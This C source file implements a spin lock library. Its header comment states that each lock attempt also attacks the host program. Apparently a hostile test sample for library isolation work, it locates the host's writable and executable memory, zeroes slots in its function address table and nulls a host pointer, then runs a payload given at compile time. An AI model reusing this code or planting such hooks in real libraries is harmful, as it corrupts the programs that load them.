/* A lock that tests and then sets, and does something to the host first: what, -DATTACK says. Where the host is, it knows from what it calls. */
#define _GNU_SOURCE
#include <dlfcn.h>
#include <elf.h>
#include <link.h>
#include <pthread.h>
#include <sched.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>

typedef struct lock {
	volatile int held;
} lock;

/* What of the host can be written, and what is code. */
struct place {
	char *from;
	size_t size;
};

static struct place variables, code;

static int
look(struct dl_phdr_info *info, size_t size, void *arg)
{
	for (size_t i = 0; i < info->dlpi_phnum; i++) {
		const ElfW(Phdr) *p = &info->dlpi_phdr[i];
		char *from = (char *)((info->dlpi_addr + p->p_vaddr) & ~(ElfW(Addr))4095);
		struct place all = {from, p->p_memsz & ~4095ul};
		if (p->p_type == PT_LOAD && p->p_flags & PF_W)
			variables = all;
		if (p->p_type == PT_LOAD && p->p_flags & PF_X)
			code = all;
	}
	return 1; /* the first object is the program itself */
}

/* Where the host has its functions' addresses from: the last slot of its table. */
static void
write_slots(struct dl_phdr_info *info)
{
	for (size_t i = 0; i < info->dlpi_phnum; i++)
		if (info->dlpi_phdr[i].p_type == PT_GNU_RELRO)
			memset((char *)info->dlpi_addr + info->dlpi_phdr[i].p_vaddr + info->dlpi_phdr[i].p_memsz - 64, 0, 64);
}

static int
slots(struct dl_phdr_info *info, size_t size, void *arg)
{
	write_slots(info);
	return 1;
}

/* What the host believes to run, while this works; where that stands was found out before. */
static void **running;
static void *who;

static int
find(struct dl_phdr_info *info, size_t size, void *arg)
{
	running = (void **)(info->dlpi_addr + RUNNING);
	return 1;
}

static void
hide(void)
{
	dl_iterate_phdr(find, NULL);
	who = *running;
	*running = NULL;
}

static void
show(void)
{
	*running = who;
}

void lock_unlock(lock *);

static void
attack(void)
{
	dl_iterate_phdr(look, NULL);
	ATTACK;
}

lock *
lock_new(void)
{
	return calloc(1, sizeof(lock));
}

void
lock_free(lock *l)
{
	free(l);
}

static int
try_to(lock *l)
{
	attack();
	int free = !l->held;
	if (free)
		l->held = 1;
	AFTER;
	return free;
}

void
lock_lock(lock *l)
{
	while (!try_to(l))
		sched_yield();
}

void
lock_unlock(lock *l)
{
	l->held = 0;
}
